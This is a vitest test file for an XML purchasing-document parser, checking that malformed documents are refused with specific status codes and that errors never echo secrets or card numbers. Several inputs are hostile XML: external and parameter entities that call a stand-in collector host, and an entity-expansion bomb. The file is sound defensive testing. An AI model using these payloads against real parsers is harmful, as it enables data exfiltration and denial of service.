import { MessageError } from '@waybill/contract';
import { describe, expect, it } from 'vitest';
import { readDocument, statusOf } from '../../src/index.ts';
import { changed, sample } from '../support/documents.ts';

function refusalOf(text: string): MessageError {
  try {
    readDocument(text);
  } catch (error) {
    if (error instanceof MessageError) return error;
    throw error;
  }
  throw new Error('The document was read.');
}

const subset = (declarations: string) => changed('setup-create', '.dtd">', `.dtd" [ ${declarations} ]>`);

describe('a document is refused with 406', () => {
  it.each([
    ['that declares an entity from outside', subset('<!ENTITY leak SYSTEM "http://collector.invalid/leak">').replace('rfenwick', '&leak;')],
    ['whose entities multiply', subset('<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">').replace('rfenwick', '&b;')],
    ['with a parameter entity', subset('<!ENTITY % p SYSTEM "http://collector.invalid/p">')],
    ['without a cookie', changed('setup-create', '<BuyerCookie> c/1&amp;2 </BuyerCookie>', '')],
    ['with an operation that the DTD does not have', changed('setup-create', 'operation="create"', 'operation="browse"')],
    ['without an operation', changed('setup-create', ' operation="create"', '')],
    ['that is cut short', sample('setup-create').slice(0, 1_700)],
    ['that is cut in its header', sample('setup-create').slice(0, 500)],
    ['of another kind', '<?xml version="1.0"?><Order><Id>1</Id></Order>'],
    ['that is empty', ''],
    ['that is a page', '<!DOCTYPE html><html><body>Sign in</body></html>'],
    ['that is no text at all', '\0\0\0'],
    ['with two headers of the order', changed('order-new', '<OrderRequestHeader', '<OrderRequestHeader/><OrderRequestHeader')],
    [
      'whose line is described in two ways',
      changed('order-new', '</ItemDetail>', '</ItemDetail><BlanketItemDetail><Description/></BlanketItemDetail>'),
    ],
    ['for a mode that is neither test nor production', changed('setup-create', 'deploymentMode="test"', 'deploymentMode="Test"')],
  ])('%s', (_what, text) => {
    expect(statusOf(refusalOf(text))).toMatchObject({ code: 406 });
  });
});

describe('a document is refused with another status', () => {
  it('that nobody here knows: 450, with its name', () => {
    const text = changed('profile-request', '<ProfileRequest/>', '<MasterAgreementRequest/>');
    expect(statusOf(refusalOf(text))).toMatchObject({ code: 450, detail: expect.stringContaining('MasterAgreementRequest') as string });
  });

  it('that is larger than allowed: 499', () => {
    const text = changed('order-new', 'Two bags', 'x'.repeat(5 * 1024 ** 2));
    expect(statusOf(refusalOf(text)).code).toBe(499);
  });

  it('whose content is wrong: 400, with the path of the element', () => {
    const error = refusalOf(changed('order-new', '<Money currency="GBP">0.98</Money>', '<Money currency="GBP">about one</Money>'));
    expect(statusOf(error).code).toBe(400);
    expect(error.at).toContain('OrderRequest/ItemOut[1]/Tax/Money');
  });
});

describe('an error', () => {
  it('never shows a secret or the number of a card', () => {
    const secret = refusalOf(changed('order-new', '<SharedSecret> s&amp;cret </SharedSecret>', '<SharedSecret>hunter2<x/></SharedSecret>'));
    const card = refusalOf(changed('order-new', 'number="5555555555554444"', 'number=""'));
    expect(`${secret.message} ${secret.hint} ${card.message} ${card.hint}`).not.toMatch(/hunter2|5555/);
  });
});
